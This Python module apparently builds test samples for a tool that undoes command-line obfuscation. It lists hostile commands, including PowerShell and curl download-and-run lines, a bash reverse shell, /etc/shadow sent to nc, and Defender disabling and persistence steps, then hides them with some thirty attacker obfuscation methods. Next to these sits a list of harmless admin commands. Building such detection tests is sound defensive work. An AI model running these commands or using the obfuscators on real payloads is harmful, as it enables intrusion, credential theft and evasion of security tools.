"""Command lines that hide a known text in the ways attackers do, from a seed. Knows nothing of what is to undo them."""

import base64
import codecs
import gzip
import random
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from urllib.parse import quote

SHELL = (
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')",
    "Start-Process calc; whoami /all; net group 'Domain Admins' /domain",
    "Invoke-WebRequest http://198.51.100.9/x.exe -OutFile C:\\Users\\Public\\x.exe",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v up /d C:\\Users\\Public\\up.exe",
)
UNIX = (
    "curl -s http://203.0.113.5/i.sh | bash",
    "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    "wget -q http://203.0.113.5/m -O /dev/shm/m; chmod +x /dev/shm/m; /dev/shm/m",
    "echo '* * * * * /tmp/.x/u' | crontab -",
    "cat /etc/shadow | nc 198.51.100.9 443",
)


@dataclass(frozen=True)
class Sample:
    """A text, and what is hidden in it."""

    kind: str
    text: str
    hidden: str


def samples(seed: int = 0) -> Iterator[Sample]:
    """Five samples of each kind."""
    for kind, hide in KINDS.items():
        unix = kind.startswith("unix")
        for number, hidden in enumerate(UNIX if unix else SHELL):
            draw = random.Random(f"{seed}-{kind}-{number}")
            yield Sample(kind, hide(hidden, draw), hidden)


def _wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def _narrow(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _deflated(text: str) -> bytes:
    engine = zlib.compressobj(wbits=-15)
    return engine.compress(text.encode()) + engine.flush()


def _pieces(text: str, draw: random.Random, most: int = 6) -> list[str]:
    found, at = [], 0
    while at < len(text):
        size = draw.randint(2, most)
        found.append(text[at : at + size])
        at += size
    return found


def _single(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _double(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def encoded_command(hidden: str, draw: random.Random) -> str:
    """`-enc` in one of its spellings."""
    flag = draw.choice(("-enc", "-e", "-EncodedCommand", "/enc", "-ec", "-eNcOdEdC", "-en"))
    return f"powershell.exe -NoP -W Hidden {flag} {_wide(hidden)}"


def encoded_carets(hidden: str, draw: random.Random) -> str:
    """`cmd /c p^owe^rshell -e^nc`."""
    return f"cmd /c p^o^wer^she^ll -n^op -e^nc {_wide(hidden)}"


def from_base64(hidden: str, draw: random.Random) -> str:
    """UTF-8 text in base64."""
    return f"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{_narrow(hidden.encode())}')))"


def nested(hidden: str, draw: random.Random) -> str:
    """An encoded command within an encoded command, two or three deep."""
    text = hidden
    for _ in range(draw.randint(2, 3)):
        text = f"powershell -enc {_wide(text)}"
    return text


def split_base64(hidden: str, draw: random.Random) -> str:
    """Base64 joined from pieces."""
    parts = "+".join(f"'{piece}'" for piece in _pieces(_narrow(hidden.encode()), draw, 30))
    return f"$x={parts};IEX([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($x)))"


def gzipped(hidden: str, draw: random.Random) -> str:
    """A gzip stream in base64."""
    raw = _narrow(gzip.compress(hidden.encode(), mtime=0))
    return (
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + raw + "'));"
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,0))).ReadToEnd()"
    )


def deflated(hidden: str, draw: random.Random) -> str:
    """A deflate stream in base64."""
    raw = _narrow(_deflated(hidden))
    stream = f"New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{raw}'),0)"
    return f"IEX(New-Object IO.StreamReader(({stream}))).ReadToEnd()"


def hex_text(hidden: str, draw: random.Random) -> str:
    """Plain hexadecimal digits."""
    return f"$h='{hidden.encode().hex()}';-join($h -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}})|iex"


def hex_bytes(hidden: str, draw: random.Random) -> str:
    """Bytes as `0x..`."""
    listed = ",".join(f"0x{byte:02x}" for byte in hidden.encode())
    return f"[Text.Encoding]::ASCII.GetString([byte[]]({listed}))|IEX"


def char_casts(hidden: str, draw: random.Random) -> str:
    """`[char]73+[char]69`."""
    return "IEX(" + "+".join(f"[char]{ord(letter)}" for letter in hidden) + ")"


def char_list(hidden: str, draw: random.Random) -> str:
    """A list of numbers made into characters."""
    listed = ",".join(str(ord(letter)) for letter in hidden)
    return draw.choice((f"-join(({listed})|%{{[char]$_}})|iex", f"iex([string]::join('',[char[]]({listed})))"))


def concatenated(hidden: str, draw: random.Random) -> str:
    """Strings joined with plus."""
    return "IEX(" + "+".join(map(_single, _pieces(hidden, draw))) + ")"


def formatted(hidden: str, draw: random.Random) -> str:
    """The format operator with its parts in another order."""
    pieces = _pieces(hidden.replace("{", "").replace("}", ""), draw, 14)
    order = list(range(len(pieces)))
    draw.shuffle(order)
    slots = "".join(f"{{{order.index(at)}}}" for at in range(len(pieces)))
    return f".(\"{{1}}{{0}}\"-f'ex','i')(\"{slots}\" -f {','.join(_single(pieces[at]) for at in order)})"


def backwards(hidden: str, draw: random.Random) -> str:
    """A string from its end to its start."""
    turned = _single(hidden[::-1])
    return draw.choice(
        (
            f"IEX(-join({turned}[-1..-{len(hidden)}]))",
            f"$r={turned};$a=$r.ToCharArray();[Array]::Reverse($a);IEX(-join $a)",
            f"IEX({turned}[-1..-{len(hidden)}] -join '')",
        )
    )


def carets(hidden: str, draw: random.Random) -> str:
    """Carets between letters."""
    text = "".join(f"^{letter}" if letter.isalpha() and draw.random() < 0.5 else letter for letter in hidden)
    return f"cmd.exe /c {text}"


def ticks(hidden: str, draw: random.Random) -> str:
    """Backticks within words, where they mean nothing."""
    harmless = set("cdghijklmopqswxyzCDGHIJKLMOPQSWXYZ")
    text = "".join(
        f"`{letter}" if at and letter in harmless and hidden[at - 1].isalpha() and draw.random() < 0.4 else letter
        for at, letter in enumerate(hidden)
    )
    return f"powershell -c {text}"


def sliced(hidden: str, draw: random.Random) -> str:
    """Letters cut out of variables that every Windows has."""
    return f"%COMSPEC:~-7,3% /%COMSPEC:~0,1% {hidden}"


def variables(hidden: str, draw: random.Random) -> str:
    """`set a=..&&set b=..&&call %a%%b%`."""
    names = [f"v{number}" for number in range(60)]
    draw.shuffle(names)
    pieces = _pieces(hidden.replace("&", ""), draw, 12)
    settings = "&&".join(f"set {name}={piece}" for name, piece in zip(names, pieces, strict=False))
    return f'cmd /V:ON /c "{settings}&&call {"".join(f"%{name}%" for name in names[: len(pieces)])}"'


def shell_variables(hidden: str, draw: random.Random) -> str:
    """Pieces in variables, joined afterwards."""
    pieces = _pieces(hidden, draw, 16)
    names = [f"$q{number}" for number in range(len(pieces))]
    return (
        ";".join(f"{name}={_single(piece)}" for name, piece in zip(names, pieces, strict=True))
        + f";IEX({'+'.join(names)})"
    )


def replaced(hidden: str, draw: random.Random) -> str:
    """A marker within the text that is taken out again."""
    marker = draw.choice(("QZX", "~~", "KjW"))
    dirty = marker.join(_pieces(hidden, draw))
    return draw.choice(
        (f"IEX({_single(dirty)}.Replace('{marker}',''))", f"IEX({_single(dirty)} -replace '{marker}','')")
    )


def split_joined(hidden: str, draw: random.Random) -> str:
    """Letters with a separator, split and joined."""
    return f"IEX({_single('!'.join(hidden))}.Split('!') -join '')"


def xored(hidden: str, draw: random.Random) -> str:
    """Bytes combined with a constant that stands in the text."""
    key = draw.randint(5, 120)
    raw = bytes(byte ^ key for byte in hidden.encode())
    listed = ",".join(map(str, raw))
    loop = "for($i=0;$i -lt $b.Count;$i++){$b[$i]=$b[$i] -bxor $k}"
    return draw.choice(
        (
            f"$b=@({listed});-join($b|%{{[char]($_ -bxor {key})}})|iex",
            f"$b=[Convert]::FromBase64String('{_narrow(raw)}');$k={key};{loop};iex([Text.Encoding]::UTF8.GetString($b))",
            f"$b=@({listed});$b=$b|%{{$_ -bxor 0x{key:02x}}};IEX([Text.Encoding]::ASCII.GetString($b))",
        )
    )


def escaped_script(hidden: str, draw: random.Random) -> str:
    """JScript with escapes."""
    kind = draw.choice(("percent", "hex", "unicode"))
    if kind == "percent":
        return f"mshta javascript:eval(unescape('{''.join(f'%{ord(letter):02x}' for letter in hidden)}'))"
    mark, digits = ("x", 2) if kind == "hex" else ("u", 4)
    told = "".join(f"\\{mark}{ord(letter):0{digits}x}" for letter in hidden)
    return f"var s='{told}';new ActiveXObject('WScript.Shell').Run(s)"


def script_codes(hidden: str, draw: random.Random) -> str:
    """`String.fromCharCode` in JScript."""
    listed = ",".join(str(ord(letter)) for letter in hidden)
    return f"new ActiveXObject('WScript.Shell').Run(String.fromCharCode({listed}))"


def basic_codes(hidden: str, draw: random.Random) -> str:
    """`Chr` or `StrReverse` in VBScript."""
    told = " & ".join(f"Chr({ord(letter)})" for letter in hidden)
    turned = _double(hidden[::-1])
    said = draw.choice((told, f"StrReverse({turned})"))
    return f'CreateObject("WScript.Shell").Run {said}, 0'


def unix_base64(hidden: str, draw: random.Random) -> str:
    """`echo ... | base64 -d | bash`."""
    raw = _narrow(hidden.encode())
    return draw.choice(
        (f"echo {raw} | base64 -d | bash", f'bash -c "$(echo {raw}|base64 --decode)"', f"base64 -d<<<{raw}|sh")
    )


def unix_hex(hidden: str, draw: random.Random) -> str:
    """`xxd -r -p`, `printf`."""
    escaped = "".join(f"\\x{byte:02x}" for byte in hidden.encode())
    octal = "".join(f"\\{byte:03o}" for byte in hidden.encode())
    return draw.choice(
        (f"echo {hidden.encode().hex()} | xxd -r -p | sh", f"printf '{escaped}' | bash", f"printf '{octal}' | sh")
    )


def unix_rev(hidden: str, draw: random.Random) -> str:
    """`rev`."""
    return f'echo "{hidden[::-1]}" | rev | bash'


def unix_rot13(hidden: str, draw: random.Random) -> str:
    """`tr` with letters moved by thirteen."""
    return f"echo \"{codecs.encode(hidden, 'rot13')}\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"


def unix_python(hidden: str, draw: random.Random) -> str:
    """Python that unpacks what it runs."""
    command = f"import os;os.system({hidden!r})"
    packed = _narrow(zlib.compress(command.encode()))
    plain = _narrow(command.encode())
    return draw.choice(
        (
            f"python3 -c \"import base64;exec(base64.b64decode('{plain}'))\"",
            f"python -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('{packed}')))\"",
            f"python3 -c \"exec(bytes.fromhex('{command.encode().hex()}'))\"",
        )
    )


def percent(hidden: str, draw: random.Random) -> str:
    """An address with its query in percent signs."""
    return f'mshta vbscript:Execute(unescape("{quote(hidden, safe="")}"))'


def stacked(hidden: str, draw: random.Random) -> str:
    """One way within another."""
    inner = draw.choice((concatenated, formatted, backwards, replaced, char_list, xored, from_base64, gzipped))
    outer = draw.choice((encoded_command, from_base64, gzipped, deflated, hex_text, xored, char_casts))
    return outer(inner(hidden, draw), draw)


def unix_stacked(hidden: str, draw: random.Random) -> str:
    """One way within another."""
    inner = draw.choice((unix_rev, unix_hex, unix_rot13))
    return draw.choice((unix_base64, unix_python, unix_hex))(inner(hidden, draw), draw)


Hide = Callable[[str, random.Random], str]
KINDS: Mapping[str, Hide] = {
    "encoded command": encoded_command,
    "encoded command with carets": encoded_carets,
    "base64, UTF-8": from_base64,
    "base64, nested": nested,
    "base64 in pieces": split_base64,
    "gzip": gzipped,
    "deflate": deflated,
    "hex digits": hex_text,
    "hex bytes": hex_bytes,
    "characters cast": char_casts,
    "characters listed": char_list,
    "strings joined": concatenated,
    "format operator": formatted,
    "reversed": backwards,
    "carets": carets,
    "backticks": ticks,
    "environment sliced": sliced,
    "variables of cmd": variables,
    "variables of PowerShell": shell_variables,
    "marker replaced": replaced,
    "split and joined": split_joined,
    "XOR with a constant": xored,
    "JScript escapes": escaped_script,
    "JScript codes": script_codes,
    "VBScript codes": basic_codes,
    "percent encoding": percent,
    "unix base64": unix_base64,
    "unix hex": unix_hex,
    "unix reversed": unix_rev,
    "unix rot13": unix_rot13,
    "unix python": unix_python,
    "two at once": stacked,
    "unix, two at once": unix_stacked,
}

HARMLESS = (
    "msiexec /i C:\\Install\\reader.msi /qn /norestart",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Management\\inventory.ps1",
    "powershell.exe -NoLogo -NonInteractive -enc "
    + _wide("Set-Location D:\\agent\\_work; ./build.ps1 -Configuration Release"),
    "powershell -Command Get-Service | Where-Object Status -eq Running",
    "schtasks /query /fo LIST /v",
    'schtasks /run /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"',
    "certutil -hashfile C:\\Install\\setup.iso SHA256",
    "certutil -dump C:\\certs\\root.cer",
    "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion /v ProgramFilesDir",
    "regsvr32 /s C:\\Windows\\System32\\msxml3.dll",
    "rundll32.exe shell32.dll,Control_RunDLL intl.cpl",
    "rundll32.exe printui.dll,PrintUIEntry /ga /n\\\\print01\\hall",
    "msbuild app.sln /m /p:Configuration=Release",
    "wmic os get Caption,Version",
    "wmic logicaldisk get size,freespace,caption",
    "net use Z: \\\\files\\team /persistent:yes",
    "net user /domain",
    "sc query wuauserv",
    "sc config wuauserv start= auto",
    "robocopy D:\\data E:\\copy /mir /r:1 /w:1",
    "7z a D:\\Staging\\shares_20261120.7z D:\\Shares",
    "vssadmin list shadows",
    "wevtutil qe System /c:20 /f:text",
    "bcdedit /enum",
    "netsh interface ip show config",
    "curl -fsSL https://packages.example.org/key.asc -o /etc/apt/keyrings/key.asc",
    "wget -q https://releases.example.org/tool.tar.gz",
    "apt-get update && apt-get install -y nginx",
    "tar czf /var/backups/etc.tar.gz /etc",
    "chmod +x /usr/local/bin/deploy.sh",
    "crontab -l",
    "python3 -m venv .venv && .venv/bin/pip install -r requirements.txt",
    "ssh admin@web01 systemctl restart nginx",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "docker run --rm -v $PWD:/src image:1.2 make test",
    "git clone https://git.example.org/team/app.git",
    "cmd.exe /c title CHG-7702 && C:\\Patches\\CHG-7702\\install.cmd",
    "cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
    "bitsadmin /list",
    'schtasks /create /tn "Vendor Update" /sc daily /st 10:15 /tr "C:\\Program Files\\Vendor\\Update.exe /ua"',
    'sc create VendorAgent binPath= "C:\\Program Files\\Vendor\\agent.exe" start= auto',
    "reg add HKLM\\Software\\Vendor /v Channel /d stable /f",
    "icacls D:\\Shares\\Team /grant Team:M",
    "systemctl restart nginx",
    "tar xzf release.tar.gz -C /opt/app",
    "curl -s http://10.0.3.11/health",
    "powershell -Command Restart-Service Spooler",
    "python3 manage.py migrate --noinput",
    "rsync -a /srv/www/ backup@10.0.0.5:/backups/www/",
    "Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Reports\\users.csv",
)
"""Command lines of daily work, none of which is to be called seldom right."""
